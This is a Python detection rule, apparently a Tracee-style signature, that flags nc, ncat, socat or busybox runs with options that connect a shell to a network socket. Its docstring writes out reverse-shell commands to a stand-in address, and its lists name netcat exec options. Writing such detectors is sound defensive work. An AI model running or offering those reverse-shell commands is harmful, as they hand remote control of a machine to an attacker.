"""EX-2: a reverse shell started with a network tool.

``nc -e /bin/sh 203.0.113.7 4444``, ``ncat --sh-exec ...`` and
``socat tcp:203.0.113.7:4444 exec:/bin/bash`` connect out and hand the
connection to a shell, without the ``dup2`` dance Tracee's TRC-101 watches.
Plain ``nc host port`` (a port check, a file transfer) is left alone: only the
options that attach a program to the socket count.
"""

from __future__ import annotations

import re
from typing import Any, Final

from pytracee.engine import Event, select, signature

__all__ = ["NETCAT_NAMES", "reverse_shell_tool"]

NETCAT_NAMES: Final = frozenset({"nc", "ncat", "netcat", "nc.traditional", "nc.openbsd"})
SOCAT: Final = "socat"
#: Multi-call binaries that run the tool named by argv[0].
MULTICALL: Final = frozenset({"busybox", "toybox"})
_NETCAT_EXEC_OPTIONS: Final = frozenset({"-e", "-c", "--exec", "--sh-exec", "--lua-exec"})
# A cluster of short options ending in -e, which takes the program: -e, -nve, -lvpe
_SHORT_EXEC: Final = re.compile(r"-[A-Za-z]*e\Z")
_SOCAT_PROGRAM: Final = ("exec:", "system:")
_SOCAT_NETWORK: Final = ("tcp", "udp", "ssl", "openssl", "sctp")

# Selector patterns: the executable's last path element. The engine compares
# these before calling the function, so other execs cost a suffix test.
_PATH_PATTERNS: Final = [f"*/{name}" for name in sorted(NETCAT_NAMES | {SOCAT} | MULTICALL)]


def _base(path: str) -> str:
    return path.rstrip("/").rpartition("/")[2]


def _netcat_runs_program(args: list[str]) -> bool:
    for arg in args:
        if arg in _NETCAT_EXEC_OPTIONS or arg.startswith(("--exec=", "--sh-exec=", "--lua-exec=")):
            return True
        if not arg.startswith("--") and _SHORT_EXEC.match(arg):
            return True
    return False


def _socat_runs_program(args: list[str]) -> bool:
    lowered = [arg.lower() for arg in args]
    return any(a.startswith(_SOCAT_PROGRAM) for a in lowered) and any(a.startswith(_SOCAT_NETWORK) for a in lowered)


@signature(
    id="EX-2",
    name="Reverse shell tool executed",
    events=[select("sched_process_exec", pathname=_PATH_PATTERNS)],
    description=(
        "A network tool (nc, ncat, socat) was executed with an option that connects a program, typically a "
        "shell, to the network: a reverse or bind shell giving an adversary interactive control of the host."
    ),
    severity=3,
    tags=["linux", "network"],
    properties={
        "Category": "execution",
        "Technique": "Unix Shell",
        "Kubernetes_Technique": "",
        "id": "attack-pattern--a9d4b653-6915-42af-98b2-5758c4ceee56",
        "external_id": "T1059.004",
    },
)
def reverse_shell_tool(event: Event) -> dict[str, Any] | None:
    """EX-2: nc/ncat/socat executed with an option that connects a program to the socket."""
    argv = event.str_list_arg("argv", None)
    tool = _base(event.str_arg("pathname"))
    if tool in MULTICALL:  # busybox nc -e ...: the applet is argv[0]
        tool = _base(argv[0]) if argv else ""
    args = argv[1:]
    if tool in NETCAT_NAMES:
        hit = _netcat_runs_program(args)
    elif tool == SOCAT:
        hit = _socat_runs_program(args)
    else:
        return None
    return {"tool": tool, "command": " ".join(argv)} if hit else None
